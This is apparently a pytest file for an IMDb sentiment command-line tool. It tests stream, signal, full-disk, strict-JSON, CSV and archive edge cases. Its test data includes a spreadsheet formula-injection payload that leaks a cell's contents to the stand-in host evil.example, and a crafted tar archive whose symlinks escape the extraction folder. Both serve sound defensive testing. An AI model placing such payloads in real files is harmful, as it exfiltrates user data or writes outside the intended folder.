"""The hostile probe's cases for streams, signals, full disks, JSON, CSV cells and the minor ones
(issue 19, items 5-8), each held here so none comes back:

- streams: a reader that stops (``| head -2``) ends the run quietly (status 141, nothing on
  stderr); a closed or full stdout (``>&-``, ``> /dev/full``) and a closed stdin (``<&-``) are one
  line and status 2, not a lost result with status 0 or a traceback;
- signals: Ctrl-C is honoured wherever it lands, even where Python or a library swallows its
  KeyboardInterrupt (a weakref callback, a broad ``except``, matplotlib turning it into "Invalid
  bounding box"): "imdb-leap: interrupted", status 130, nothing renamed into place;
- a full disk during ``predict``, ``analyze``, ``calibrate`` or ``robustness`` is one line naming the
  path the user named, and that path is left as it was;
- JSON: no NaN/Infinity token in anything written (``json.loads(..., parse_constant=raise)``); an
  empty CAD file is an error, not NaN;
- CSV: a text cell a spreadsheet would run (``=HYPERLINK(...)``) starts with ``'`` unless
  ``IMDB_RAW_CSV=1``;
- minor: ``robustness`` without CAD pairs runs the suite and says they were skipped, and writes under
  the current folder by default; a damaged cache ``.npy`` is computed again; a copied bundle folder
  (``models/dense-old``) does not break ``predict``; a link leaving the archive through another link
  is an unsafe member, not a corrupt archive.
"""
from __future__ import annotations

import csv
import errno
import gc
import io
import json
import os
import shutil
import signal
import subprocess
import sys
import tarfile
import time
from pathlib import Path

import numpy as np
import pandas as pd
import pytest

from IMDb import console
from IMDb.analysis import cache
from IMDb.cli import commands
from IMDb.cli import imdb_leap as cli
from IMDb.config.run import REPO_ROOT
from IMDb.errors import DataError
from IMDb.output import formats
from IMDb.output.folders import REPORT_MARKER, atomic_dir
from tests.test_counterfactual import GOOD

HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"click")'


def strict_json(text: str):
    """`json.loads` that refuses the NaN, Infinity and -Infinity tokens."""
    def refuse(token: str):
        raise ValueError(f"non-standard JSON token {token}")

    return json.loads(text, parse_constant=refuse)


def imdb_leap(args: list[str], redirect: str = "", *, cwd: Path, stdin: bytes | None = None,
              env: dict | None = None, timeout: float = 120) -> subprocess.CompletedProcess:
    """`imdb-leap ARGS REDIRECT` in a fresh process (``python -m IMDb.cli.imdb_leap``), the redirection done
    by bash so that a stream can be closed or pointed at /dev/full."""
    command = ["bash", "-c", f'exec "$@" {redirect}', "imdb-leap", sys.executable, "-m", "IMDb.cli.imdb_leap", *args]
    environment = {**os.environ, "PYTHONPATH": str(REPO_ROOT), "TL_DISABLE_ANALYTICS": "1", **(env or {})}
    return subprocess.run(command, cwd=cwd, input=stdin, capture_output=True, timeout=timeout, env=environment)


def one_error_line(err: str) -> str:
    lines = err.strip().splitlines()
    assert len(lines) == 1 and lines[0].startswith("imdb-leap: error: "), err
    return lines[0]


# --------------------------------------------------------------------------- streams


def test_a_reader_that_stops_ends_the_run_quietly(word_bundles, tmp_path):
    reviews = tmp_path / "reviews.txt"
    reviews.write_text("".join(f"review {i}: a great film\n" for i in range(20_000)))
    process = subprocess.Popen(
        [sys.executable, "-m", "IMDb.cli.imdb_leap", "predict", "--model", "dense", "--models-dir", str(word_bundles),
         "--input", str(reviews), "--quiet"], cwd=tmp_path, stdout=subprocess.PIPE, stderr=subprocess.PIPE,
        env={**os.environ, "PYTHONPATH": str(REPO_ROOT)})
    first = [process.stdout.readline() for _ in range(2)]  # `| head -2`
    process.stdout.close()
    err = process.stderr.read().decode()
    assert process.wait(timeout=120) == console.PIPE_CLOSED == 141
    assert all(line.startswith(b"dense: ") for line in first) and err == ""


@pytest.mark.parametrize("redirect, args, words", [
    (">&-", ["x"], "standard output is closed"),                                      # case 13
    ("> /dev/full", ["x"], "cannot write to standard output: No space left on device"),
    ("<&-", [], "standard input is closed"),                                          # predict reads stdin
    ("<&-", ["--input", "-"], "standard input is closed"),
], ids=["stdout-closed", "stdout-full", "stdin-closed", "stdin-closed-input"])
def test_a_closed_or_full_standard_stream_is_one_line(word_bundles, tmp_path, redirect, args, words):
    result = imdb_leap(["predict", "--model", "dense", "--models-dir", str(word_bundles), *args], redirect,
                       cwd=tmp_path)
    assert result.returncode == 2 and words in one_error_line(result.stderr.decode())
    assert b"Traceback" not in result.stderr


def test_a_closed_stderr_loses_nothing_on_stdout(word_bundles, tmp_path):
    result = imdb_leap(["predict", "--model", "dense", "--models-dir", str(word_bundles), "a great film"], "2>&-",
                       cwd=tmp_path)
    assert result.returncode == 0 and result.stdout.decode().startswith("dense: positive")


def test_an_empty_input_file_is_an_error(word_bundles, tmp_path, capsys):
    (tmp_path / "empty.txt").write_text("")
    assert cli.main(["predict", "--models-dir", str(word_bundles), "--input", str(tmp_path / "empty.txt"),
                     "--output", str(tmp_path / "o.csv")]) == 2
    assert "holds no reviews" in one_error_line(capsys.readouterr().err) and not (tmp_path / "o.csv").exists()


# --------------------------------------------------------------------------- signals


@pytest.fixture(autouse=True)
def ctrl_c_as_in_a_terminal():
    """Ctrl-C raising KeyboardInterrupt, as in a terminal, even when pytest was started as a
    background job (which starts with SIGINT ignored, and imdb-leap then leaves it ignored)."""
    previous = signal.signal(signal.SIGINT, signal.default_int_handler)
    yield
    signal.signal(signal.SIGINT, previous)


def _swallowed_interrupt() -> None:
    """A Ctrl-C whose KeyboardInterrupt a library catches (a broad `except BaseException`)."""
    try:
        os.kill(os.getpid(), signal.SIGINT)
        time.sleep(1)
    except KeyboardInterrupt:
        pass


def test_an_interrupt_swallowed_by_a_library_still_stops_the_swap(tmp_path):
    out = tmp_path / "report"
    with console.signals():
        with pytest.raises(KeyboardInterrupt):
            with atomic_dir(out, REPORT_MARKER) as tmp:
                (tmp / "dashboard.html").write_text("half")
                _swallowed_interrupt()
    assert not out.exists() and list(tmp_path.iterdir()) == []


def test_an_interrupt_in_a_weakref_callback_or_del_is_raised_again_without_noise(capsys):
    class Finalized:
        def __del__(self):  # the handler runs here, where Python can only drop an exception
            os.kill(os.getpid(), signal.SIGINT)
            deadline = time.monotonic() + 0.5
            while time.monotonic() < deadline:
                pass

    with console.signals():
        with pytest.raises(KeyboardInterrupt):
            Finalized()
            gc.collect()
            time.sleep(5)  # the signal is sent again and lands here
    assert "Exception ignored" not in capsys.readouterr().err


def test_an_interrupt_a_library_turned_into_its_own_error_is_reported_as_one(monkeypatch, capsys):
    def report_stage(args):
        _swallowed_interrupt()
        raise ValueError("Invalid bounding box")  # matplotlib's Agg, interrupted inside draw_path

    monkeypatch.setattr(commands, "predict", report_stage)
    assert cli.main(["predict", "x"]) == console.INTERRUPTED == 130
    assert capsys.readouterr().err == "imdb-leap: interrupted\n"


@pytest.mark.parametrize("signum", [signal.SIGINT, signal.SIGTERM], ids=["ctrl-c", "sigterm"])
def test_a_signal_while_scoring_writes_nothing(word_bundles, tmp_path, signum):
    reviews = tmp_path / "reviews.txt"
    reviews.write_text("".join(f"review {i}: a great film\n" for i in range(400_000)))
    out = tmp_path / "o.csv"
    process = subprocess.Popen(
        [sys.executable, "-m", "IMDb.cli.imdb_leap", "predict", "--model", "dense", "--models-dir", str(word_bundles),
         "--input", str(reviews), "--output", str(out)], cwd=tmp_path, stdout=subprocess.PIPE,
        stderr=subprocess.PIPE, env={**os.environ, "PYTHONPATH": str(REPO_ROOT)}, text=True)
    assert process.stderr.readline().startswith("dense:")  # the progress bar: scoring has started
    process.send_signal(signum)
    err = process.stderr.read()
    assert process.wait(timeout=120) == 130 and err.strip().splitlines()[-1] == "imdb-leap: interrupted"
    assert "Traceback" not in err and sorted(p.name for p in tmp_path.iterdir()) == ["reviews.txt"]


# --------------------------------------------------------------------------- a full disk


def _full_disk(monkeypatch) -> None:
    """Every write into a temp file or folder (where each output is written before its rename)
    fails as on a full disk."""
    def in_temp(path) -> bool:
        path = Path(path)
        return any(p.name.startswith(".") and p.name.endswith(".tmp") for p in (path, *path.parents))

    def refuse(original):
        def write(self_or_frame, target=None, *args, **kwargs):
            path = self_or_frame if isinstance(self_or_frame, Path) else target
            if path is not None and in_temp(path):
                raise OSError(errno.ENOSPC, os.strerror(errno.ENOSPC))
            return original(self_or_frame, target, *args, **kwargs) if target is not None \
                else original(self_or_frame, *args, **kwargs)
        return write

    monkeypatch.setattr(Path, "write_text", refuse(Path.write_text))
    monkeypatch.setattr(pd.DataFrame, "to_csv", refuse(pd.DataFrame.to_csv))


def _analyze_that_writes_a_report(monkeypatch):
    """`imdb-leap analyze` whose stages are replaced by a finished report's inputs (the stages
    need trained Keras models): what is left is the report stage, where the disk fills up."""
    from IMDb.analysis import analyze
    from IMDb.analysis.report import write_report
    from tests.test_analysis_report import make_inputs

    monkeypatch.setattr(analyze, "run_analysis", lambda name, settings, out, **kw: write_report(
        out, make_inputs(), plotly_js="", overwrite=kw["overwrite"]))


@pytest.mark.parametrize("command", ["predict", "analyze", "calibrate", "robustness"])
def test_a_full_disk_is_one_line_naming_the_path(command, word_bundles, synthetic_dataset, tmp_path, monkeypatch,
                                                 capsys):
    models = tmp_path / "models"
    shutil.copytree(word_bundles, models)
    card = (models / "dense" / "card.json").read_bytes()
    monkeypatch.setenv("IMDB_DATA", str(synthetic_dataset))
    (tmp_path / "cad").mkdir()
    (tmp_path / "cad" / "dev_paired.tsv").write_text(GOOD)
    monkeypatch.setenv("IMDB_CAD", str(tmp_path / "cad"))
    out = tmp_path / "out.csv" if command == "predict" else tmp_path / "out"
    argv = {"predict": ["predict", "--model", "dense", "a great film", "--output", str(out)],
            "analyze": ["analyze", "--model", "dense", "--out", str(out)],
            "calibrate": ["calibrate", "--model", "dense"],
            "robustness": ["robustness", "--model", "dense", "--out", str(out)]}[command]
    if command == "analyze":
        _analyze_that_writes_a_report(monkeypatch)
    _full_disk(monkeypatch)
    assert cli.main([*argv, "--models-dir", str(models), "--quiet"]) == 2
    line = one_error_line(capsys.readouterr().err)
    named = models / "dense" / "card.json" if command == "calibrate" else out
    assert f"cannot write {named.resolve() if command == 'analyze' else named}: No space left on device" in line
    assert not out.exists() and (models / "dense" / "card.json").read_bytes() == card
    assert not [p for p in [*tmp_path.iterdir(), *(models / "dense").iterdir()] if p.name.endswith(".tmp")]


def test_a_full_disk_while_writing_a_cache_is_ignored(monkeypatch):
    _full_disk(monkeypatch)
    monkeypatch.setattr(pd.DataFrame, "to_parquet", lambda *a, **k: (_ for _ in ()).throw(
        OSError(errno.ENOSPC, "No space left on device")))
    found = cache.lookup("full-disk", "v1", ["a", "bb"])
    assert found.fill(pd.DataFrame({"n": [1, 2]}))["n"].tolist() == [1, 2]  # computed, not stored


# --------------------------------------------------------------------------- honest JSON


def test_the_json_writer_writes_null_for_what_is_not_a_number():
    document = {"nan": float("nan"), "inf": np.float32("inf"), "rows": np.array([1.0, -np.inf]),
                "frame": pd.DataFrame({"x": [np.nan, 2.0]}), "fine": np.float64(0.25)}
    assert strict_json(formats.json_file(document)) == {
        "nan": None, "inf": None, "rows": [1.0, None], "frame": [{"x": None}, {"x": 2.0}], "fine": 0.25}


def test_only_the_writer_calls_json_dumps():
    """Every JSON the package writes goes through `IMDb.output.formats`; the other json.dumps calls make a
    hash or a message, not a file."""
    allowed = {("IMDb/training/bert_finetune.py", "hashlib.sha256(json.dumps("),
               ("IMDb/text/wordpiece.py", "hashlib.sha256(json.dumps("),
               ("IMDb/text/word_tokenizer.py", "payload = json.dumps("), ("IMDb/card.py", "shown = json.dumps(value)"),
               ("IMDb/training/export.py", 'f.attrs["model_config"] = json.dumps(config)')}
    found = set()
    for path in (REPO_ROOT / "IMDb").rglob("*.py"):
        name = str(path.relative_to(REPO_ROOT))
        for line in path.read_text(encoding="utf-8").splitlines():
            if ("json.dump(" in line or "json.dumps(" in line) and name != "IMDb/output/formats.py":
                found.add((name, next((a for n, a in allowed if n == name and a in line), line.strip())))
    assert found <= allowed, found - allowed


@pytest.mark.parametrize("content, words", [("", "is empty"), ("Sentiment\tText\tbatch_id\n", "holds no")],
                         ids=["0-bytes", "header-only"])
def test_an_empty_cad_file_is_one_line_before_any_work(content, words, word_bundles, tmp_path, capsys):
    (tmp_path / "cad").mkdir()
    (tmp_path / "cad" / "dev_paired.tsv").write_text(content)   # case 11
    assert cli.main(["robustness", "--model", "dense", "--models-dir", str(word_bundles), "--cad",
                     str(tmp_path / "cad"), "--out", str(tmp_path / "r")]) == 2
    assert words in one_error_line(capsys.readouterr().err) and not (tmp_path / "r").exists()


def test_robustness_and_calibrate_write_strict_json(word_bundles, synthetic_dataset, tmp_path, monkeypatch):
    from IMDb.analysis.robustness_report import percent

    models = tmp_path / "models"
    shutil.copytree(word_bundles, models)
    (tmp_path / "cad").mkdir()
    (tmp_path / "cad" / "dev_paired.tsv").write_text(GOOD)
    monkeypatch.setenv("IMDB_DATA", str(synthetic_dataset))
    assert cli.main(["calibrate", "--model", "dense", "--models-dir", str(models), "--quiet"]) == 0
    assert strict_json((models / "dense" / "card.json").read_text())["calibration"]["temperature"] > 0
    assert cli.main(["robustness", "--model", "dense", "--models-dir", str(models), "--cad", str(tmp_path / "cad"),
                     "--out", str(tmp_path / "r"), "--quiet"]) == 0
    (result,) = strict_json((tmp_path / "r" / "robustness.json").read_text())
    assert result["cad"]["pairs"] == 2 and result["calibration"]["temperature"] > 0
    assert percent(float("nan")) == "–" and "nan%" not in (tmp_path / "r" / "dashboard.html").read_text()


# --------------------------------------------------------------------------- spreadsheet-safe CSV

FORMULAS = [HYPERLINK, "+1+1", "-2+3", "@SUM(A1)", "\tleading tab", "\rleading return"]


def _read_csv(path: Path) -> list[dict]:
    with open(path, newline="", encoding="utf-8") as f:
        return list(csv.DictReader(f))


def test_predict_csv_cells_a_spreadsheet_would_run_are_escaped(word_bundles, tmp_path, capsys):
    (tmp_path / "in.jsonl").write_text("".join(json.dumps({"text": t}) + "\n" for t in [*FORMULAS, "a great film"]))
    out = tmp_path / "o.csv"
    assert cli.main(["predict", "--model", "dense", "--models-dir", str(word_bundles), "--input",
                     str(tmp_path / "in.jsonl"), "--output", str(out), "--quiet"]) == 0   # case 17
    rows = _read_csv(out)
    assert [r["text"] for r in rows] == ["'" + f for f in FORMULAS] + ["a great film"]
    assert all(float(r["dense_p_positive"]) >= 0 for r in rows)  # numbers are not touched


def test_raw_csv_is_one_environment_variable(word_bundles, tmp_path, monkeypatch, capsys):
    out = tmp_path / "o.csv"
    monkeypatch.setenv("IMDB_RAW_CSV", "1")
    assert cli.main(["predict", "--model", "dense", "--models-dir", str(word_bundles), HYPERLINK,
                     "--output", str(out)]) == 0
    assert _read_csv(out)[0]["text"] == HYPERLINK
    monkeypatch.setenv("IMDB_RAW_CSV", "yes")
    assert cli.main(["predict", "--model", "dense", "--models-dir", str(word_bundles), HYPERLINK,
                     "--output", str(tmp_path / "p.csv")]) == 2
    assert "IMDB_RAW_CSV='yes'" in one_error_line(capsys.readouterr().err) and not (tmp_path / "p.csv").exists()


def test_every_csv_cell_goes_through_one_rule():
    from IMDb.analysis.projector import _tsv_cell

    assert [formats.csv_cell(f) for f in FORMULAS] == ["'" + f for f in FORMULAS]
    assert [formats.csv_cell(v) for v in ("fine", -0.5, 3, None, "a = b")] == ["fine", -0.5, 3, None, "a = b"]
    assert _tsv_cell(HYPERLINK) == "'" + HYPERLINK and _tsv_cell(-0.25) == "-0.25"


def test_label_errors_csv_escapes_the_review_text(tmp_path):
    from IMDb.analysis.report import write_report
    from tests.test_analysis_report import make_inputs

    inputs = make_inputs()
    worst = inputs.results["label errors"].errors["position"].iloc[0]
    inputs.frame.loc[worst, "text"] = HYPERLINK
    inputs.tables["cnn"].frame.loc[worst, "text"] = HYPERLINK
    out = write_report(tmp_path / "r", inputs, plotly_js="")
    (row,) = _read_csv(out / "label_errors.csv")
    assert row["text"] == "'" + HYPERLINK
    strict_json((out / "summary.json").read_text())


# --------------------------------------------------------------------------- the minor cases


def test_robustness_without_pairs_runs_the_suite_and_writes_under_the_current_folder(word_bundles, tmp_path,
                                                                                     monkeypatch, capsys):
    monkeypatch.delenv("IMDB_CAD", raising=False)
    monkeypatch.chdir(tmp_path)
    assert cli.main(["robustness", "--model", "dense", "--models-dir", str(word_bundles), "--quiet"]) == 0
    out = tmp_path / "reports" / "robustness-dense"
    captured = capsys.readouterr()
    assert captured.out.strip() == str(out.relative_to(tmp_path) / "dashboard.html")
    assert "counterfactual pairs skipped" in captured.err
    (result,) = strict_json((out / "robustness.json").read_text())
    assert set(result["cad"]) == {"skipped"} and "IMDB_CAD" in result["cad"]["skipped"]
    assert len(result["behaviour"]["short"]["tests"]) >= 15
    assert "Skipped: no counterfactual pairs given" in (out / "dashboard.html").read_text()


@pytest.mark.parametrize("damage", ["empty", "half", "header-cut"])
def test_a_damaged_cached_array_is_computed_again(damage, monkeypatch, tmp_path):
    monkeypatch.setenv("IMDB_CACHE", str(tmp_path))
    array = np.arange(200, dtype=np.float32).reshape(100, 2)
    calls = []

    def compute():
        calls.append(1)
        return array

    cache.stored_array("maps", "v1", compute)
    path = tmp_path / "maps" / "v1.npy"
    whole = path.read_bytes()
    path.write_bytes({"empty": b"", "half": whole[: len(whole) // 2], "header-cut": whole[:40]}[damage])
    np.testing.assert_array_equal(cache.stored_array("maps", "v1", compute), array)   # after a power loss
    assert len(calls) == 2 and path.read_bytes() == whole


def test_a_copied_bundle_folder_does_not_break_predict(word_bundles, tmp_path, capsys):
    models = tmp_path / "models"
    shutil.copytree(word_bundles, models)
    shutil.copytree(models / "dense", models / "dense-old")
    assert cli.main(["predict", "--models-dir", str(models), "a great film"]) == 0
    assert [line.split(":")[0].strip() for line in capsys.readouterr().out.splitlines()] == ["cnn", "dense"]


def test_a_link_leaving_the_archive_through_another_link_is_reported_as_unsafe(tmp_path):
    from IMDb.data.aclimdb_archive import extract_archive

    archive = tmp_path / "aclImdb_v1.tar.gz"
    with tarfile.open(archive, "w:gz") as tar:
        for name, linkname in (("aclImdb", None), ("aclImdb/up", ".."), ("aclImdb/up/escape", "../outside")):
            info = tarfile.TarInfo(name)
            info.type = tarfile.DIRTYPE if linkname is None else tarfile.SYMTYPE
            info.linkname = linkname or ""
            tar.addfile(info)
    with pytest.raises(DataError, match=r"unsafe archive member 'aclImdb/up/escape' \(.*outside") as caught:
        extract_archive(archive, tmp_path / "cache", progress=False)
    assert "corrupt" not in str(caught.value) and not (tmp_path / "outside").exists()
